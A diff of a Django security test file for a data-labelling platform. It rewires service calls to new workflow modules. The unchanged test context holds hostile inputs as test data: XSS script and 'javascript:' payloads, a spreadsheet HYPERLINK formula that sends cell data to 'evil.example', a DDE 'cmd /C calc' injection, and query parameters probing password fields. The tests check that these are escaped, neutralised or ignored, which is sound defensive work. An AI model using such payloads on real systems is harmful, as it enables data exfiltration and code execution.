@@ -15,9 +15,10 @@ from django.test import Client
 from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
 
 from payouts.models import Entry
-from tasks import services
 from tasks.models import Answer, Pool, Task
 from tests.factories import PoolFactory, RequesterFactory, TaskFactory, fund
+from workflows import assignments as assignments_flow
+from workflows import pools as pools_flow
 
 pytestmark = pytest.mark.django_db
 
@@ -41,7 +42,7 @@ def _open_pool(requester: Any, **fields: Any) -> Pool:
     fund(requester, "50.00")
     pool = PoolFactory.create(requester=requester, **fields)
     TaskFactory.create(pool=pool)
-    services.pool_open(pool=pool)
+    pools_flow.pool_open(pool=pool)
     return pool
 
 
@@ -60,7 +61,7 @@ def test_task_data_with_script_is_shown_to_workers_as_text(requester, worker):
     fund(requester, "50.00")
     pool = PoolFactory.create(requester=requester)
     TaskFactory.create(pool=pool, data={"text": f"{SCRIPT}<b>bold</b>", "html_key<i>": IMG})
-    services.pool_open(pool=pool)
+    pools_flow.pool_open(pool=pool)
     page = _annotator(worker, pool)
     assert "<script>alert" not in page and "<b>bold</b>" not in page and "<img" not in page
     assert "&lt;script&gt;alert(&#x27;owned&#x27;)&lt;/script&gt;&lt;b&gt;bold&lt;/b&gt;" in page
@@ -73,7 +74,7 @@ def test_a_pool_that_opts_in_to_html_shows_it_sanitised(requester, worker):
     TaskFactory.create(
         pool=pool, data={"text": f"<b>bold</b>{SCRIPT}{IMG}<a href='javascript:alert(1)'>x</a>"}
     )
-    services.pool_open(pool=pool)
+    pools_flow.pool_open(pool=pool)
     page = _annotator(worker, pool)
     assert "<b>bold</b>" in page  # the markup the requester meant
     assert "<script>alert" not in page and "onerror" not in page and "javascript:" not in page
@@ -84,7 +85,7 @@ def test_markup_in_pool_names_labels_and_instructions_is_escaped_on_every_page(r
     fund(requester, "50.00")
     pool = PoolFactory.create(requester=requester, name=name, labels=[label, "No"], instructions=instructions)
     TaskFactory.create(pool=pool)
-    services.pool_open(pool=pool)
+    pools_flow.pool_open(pool=pool)
 
     worker_client, requester_client = Client(), Client()
     worker_client.force_login(worker)
@@ -95,7 +96,7 @@ def test_markup_in_pool_names_labels_and_instructions_is_escaped_on_every_page(r
         "pool list": requester_client.get("/pools/"),
         "pool page": requester_client.get(f"/pools/{pool.pk}/"),
     }
-    assignment = services.assignment_next(worker=worker, pool_id=pool.pk)
+    assignment = assignments_flow.assignment_next(worker=worker, pool_id=pool.pk)
     assert assignment is not None
     # The annotator's htmx fragment, after skipping (same template, partial render).
     pages["annotator fragment"] = worker_client.post(
@@ -134,8 +135,8 @@ def test_csv_exports_neutralise_formulas(api, requester, worker, kind):
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     pool = _open_pool(requester, labels=[formula, "@SUM(1)"])
     Task.objects.filter(pool=pool).update(external_id="+cmd|' /C calc'!A0")
-    assignment = services.assignment_next(worker=worker, pool_id=pool.pk)
-    services.assignment_submit(worker=worker, assignment_id=assignment.pk, label=formula)
+    assignment = assignments_flow.assignment_next(worker=worker, pool_id=pool.pk)
+    assignments_flow.assignment_submit(worker=worker, assignment_id=assignment.pk, label=formula)
 
     client = Client()
     client.force_login(requester)
@@ -415,8 +416,8 @@ def test_ids_that_are_not_numbers_are_not_found(api, requester, worker, odd):
 def test_query_parameters_naming_fields_are_ignored(api, requester, worker):
     pool = _open_pool(requester, name="Mine")
     PoolFactory.create(requester=requester, name="Second")
-    assignment = services.assignment_next(worker=worker, pool_id=pool.pk)
-    services.assignment_submit(worker=worker, assignment_id=assignment.pk, label="OK")
+    assignment = assignments_flow.assignment_next(worker=worker, pool_id=pool.pk)
+    assignments_flow.assignment_submit(worker=worker, assignment_id=assignment.pk, label="OK")
     hostile = {
         "ordering": "requester__password",
         "requester__password__startswith": "md5$",
